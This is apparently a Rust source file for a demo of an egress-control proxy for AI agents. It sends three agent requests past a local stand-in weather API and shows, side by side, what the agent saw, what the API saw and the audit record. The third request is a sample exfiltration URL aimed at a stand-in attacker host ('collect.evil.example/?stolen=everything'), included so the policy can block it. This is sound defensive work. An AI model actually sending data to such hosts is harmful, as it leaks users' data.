//! `exeat demo`: three requests of an agent, beside what a stand-in API on this machine saw and what was recorded.

mod agent;
mod api;

use std::collections::HashMap;
use std::net::SocketAddr;
use std::path::Path;
use std::time::{Duration, Instant};

use anyhow::Context as _;
use clap::Args;
use comfy_table::{ContentArrangement, Table, presets};

use crate::app;
use crate::app::{AuditSettings, AuditTarget, Running, Settings};
use crate::cli::{Verdict, say};
use crate::dial::Answer;
use crate::exchange::{AGENT_REQUESTS, AGENT_TUNNELS, MAX_DISTINCT_LABELS, OnEcho, PlainHttp};
use crate::policy;
use crate::request::Host;
use crate::sessions::Bounds;

/// Watch three requests go through, or not, beside a stand-in API on this machine
#[derive(Args)]
pub(super) struct Demo {}

/// The name that the agent knows. Only the settings of the demonstration know that it is this machine.
const HOST: &str = "api.weather.example";
/// The key that the API wants, and that the agent never sees.
const KEY: &str = "demo-key-the-agent-never-sees";

/// What is shown: a title and what the agent asks for.
const REQUESTS: [(&str, &str); 3] = [
    (
        "1. A declared action",
        "https://api.weather.example/v1/current?city=New%20York",
    ),
    (
        "2. A parameter that nobody declared",
        "https://api.weather.example/v1/current?city=Paris&debug=true",
    ),
    (
        "3. A host that nobody declared",
        "https://collect.evil.example/?stolen=everything",
    ),
];

impl Demo {
    pub(super) fn run(self) -> anyhow::Result<Verdict> {
        let folder = tempfile::tempdir().context("a folder for the demonstration")?;
        let api = api::Api::start(HOST, KEY)?;
        let running = start(folder.path(), &api)?;
        let audit = folder.path().join("audit.jsonl");
        say(format_args!(
            "The policy:\n\n{}",
            indented(&policy_text(api.address()))
        ))?;
        for (number, (title, url)) in REQUESTS.into_iter().enumerate() {
            let answer = agent::get(running.proxy, url)?;
            let record = record(&audit, number)?;
            say(format_args!(
                "{title}\n{}\n",
                side_by_side(&answer, &api.seen(), &record)
            ))?;
        }
        running.stop();
        say("The agent had no key. Next: write a policy, `exeat check`, `exeat run`.")?;
        Ok(Verdict::Good)
    }
}

fn policy_text(api: SocketAddr) -> String {
    format!(
        "\
version: 1
secrets:
  weather_key: {{file: weather_key}}
auth:
  weather: {{type: api_key, in: query, name: appid, value: {{secret: weather_key}}}}
actions:
  get_weather:
    description: Tells the current weather in a city.
    method: GET
    url: https://{HOST}/v1/current
    auth: weather
    parameters:
      properties:
        city: {{type: string, maxLength: 80}}
      required: [city]
network:                       # only for the demonstration: the API is on this machine
  allow_private: [{{host: {HOST}, addresses: [{}/32], port: {}}}]
",
        api.ip(),
        api.port()
    )
}

fn start(folder: &Path, api: &api::Api) -> anyhow::Result<Running> {
    std::fs::write(folder.join("weather_key"), KEY)?;
    let authority = folder.join("api-ca.pem");
    std::fs::write(&authority, api.ca_pem())?;
    let key_file = folder.join("weather_key");
    let text = policy_text(api.address()).replace(
        "file: weather_key",
        &format!("file: {:?}", key_file.display().to_string()),
    );
    let loaded = policy::from_texts(&[("demo.yaml".into(), text.into_bytes())]);
    let policy = loaded.policy.context("the policy of the demonstration")?;
    let host = Host::parse(HOST).map_err(|bad| anyhow::anyhow!("{bad}"))?;
    let anywhere = SocketAddr::from(([127, 0, 0, 1], 0));
    let settings = Settings {
        policies: folder.to_owned(),
        environment: None,
        proxy_listen: anywhere,
        tools_listen: anywhere,
        admin_listen: anywhere,
        admin_token_file: None,
        plain_http: PlainHttp::Upgrade,
        on_echo: OnEcho::Redact,
        extra_ca: vec![authority],
        hosts: HashMap::from([(host, vec![Answer::from(api.address())])]),
        audit: AuditSettings::to(AuditTarget::File(folder.join("audit.jsonl"))),
        state_dir: folder.join("state"),
        workers: 1,
        connections: app::CONNECTIONS,
        agent_requests: AGENT_REQUESTS,
        agent_tunnels: AGENT_TUNNELS,
        max_distinct_labels: MAX_DISTINCT_LABELS,
        watch: false,
        grace: Duration::ZERO,
        drain: Duration::from_secs(1),
        stop_delay: Duration::ZERO,
        sessions: Bounds::default(),
    };
    app::start(app::prepare(&settings, policy)?)
}

/// The line of one exchange, which is written when its answer has been.
fn record(file: &Path, number: usize) -> anyhow::Result<String> {
    let deadline = Instant::now() + Duration::from_secs(5);
    while Instant::now() < deadline {
        let text = std::fs::read_to_string(file)?;
        if let Some(line) = text
            .lines()
            .filter(|it| !it.contains("\"event\":"))
            .nth(number)
            && text.ends_with('\n')
        {
            return Ok(line.to_owned());
        }
        std::thread::sleep(Duration::from_millis(5));
    }
    anyhow::bail!("no audit record was written")
}

fn side_by_side(answer: &str, seen: &str, record: &str) -> Table {
    let mut table = Table::new();
    table
        .load_preset(presets::UTF8_FULL_CONDENSED)
        .set_content_arrangement(ContentArrangement::Dynamic)
        .set_header(["what the agent saw", "what the API saw", "the audit record"]);
    if table.width().is_none() {
        table.set_width(150);
    }
    table.add_row([answer, seen, &one_field_per_line(record)]);
    table
}

/// The fields that tell the story; the line has more.
const SHOWN: [&str; 9] = [
    "decision",
    "code",
    "action",
    "method",
    "host",
    "path",
    "query",
    "status",
    "upstream_addr",
];

fn one_field_per_line(record: &str) -> String {
    let Ok(fields) = serde_json::from_str::<serde_json::Map<String, serde_json::Value>>(record)
    else {
        return record.to_owned();
    };
    let shown = SHOWN
        .iter()
        .filter_map(|name| Some((name, fields.get(*name)?)));
    let lines: Vec<String> = shown
        .map(|(name, value)| format!("{name}: {value}"))
        .collect();
    lines.join("\n") + "\n..."
}

fn indented(text: &str) -> String {
    text.lines().map(|line| format!("    {line}\n")).collect()
}
